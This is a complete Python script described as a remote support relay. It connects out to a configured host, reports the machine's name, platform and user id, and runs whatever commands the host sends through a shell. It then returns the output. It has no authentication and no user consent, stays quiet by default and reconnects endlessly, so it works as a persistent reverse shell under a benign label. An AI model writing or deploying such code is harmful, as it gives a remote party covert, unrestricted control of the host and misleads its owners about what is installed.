#!/usr/bin/env python3
"""Remote support relay: dials out to the support desk so an engineer can
work on this host without inbound firewall changes.

Settings are read from ./relay.ini:

    [desk]
    host = desk.support-relay.io
    port = 8443
    retry = 30
"""
import argparse
import asyncio
import configparser
import logging
import os
import platform

LOG = logging.getLogger("relay")


class Settings:
    def __init__(self, path):
        cp = configparser.ConfigParser()
        cp.read(path)
        sec = cp["desk"] if cp.has_section("desk") else {}
        self.host = sec.get("host", "desk.support-relay.io")
        self.port = int(sec.get("port", 8443))
        self.retry = int(sec.get("retry", 30))


class Session:
    def __init__(self, reader, writer):
        self.reader = reader
        self.writer = writer
        self.cwd = os.path.expanduser("~")

    async def send(self, text):
        self.writer.write(text.encode(errors="replace"))
        await self.writer.drain()

    async def handle(self, line):
        if line.startswith("cd "):
            target = os.path.expanduser(line[3:].strip())
            try:
                os.chdir(os.path.join(self.cwd, target))
                self.cwd = os.getcwd()
            except OSError as exc:
                await self.send(f"{exc}\n")
            return
        proc = await asyncio.create_subprocess_shell(
            line, cwd=self.cwd,
            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
        out, _ = await proc.communicate()
        await self.send(out.decode(errors="replace"))

    async def loop(self):
        await self.send(f"{platform.node()} {platform.platform()} uid={os.getuid()}\n")
        while True:
            await self.send(f"{self.cwd}$ ")
            raw = await self.reader.readline()
            if not raw:
                break
            line = raw.decode(errors="replace").strip()
            if not line:
                continue
            if line in ("exit", "quit"):
                break
            await self.handle(line)


async def run(settings):
    while True:
        try:
            reader, writer = await asyncio.open_connection(settings.host, settings.port)
            LOG.debug("connected to %s:%d", settings.host, settings.port)
            await Session(reader, writer).loop()
            writer.close()
        except (OSError, asyncio.IncompleteReadError) as exc:
            LOG.debug("relay error: %s", exc)
        await asyncio.sleep(settings.retry)


def main():
    ap = argparse.ArgumentParser(description="support relay")
    ap.add_argument("-c", "--config", default="relay.ini")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    try:
        asyncio.run(run(Settings(args.config)))
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
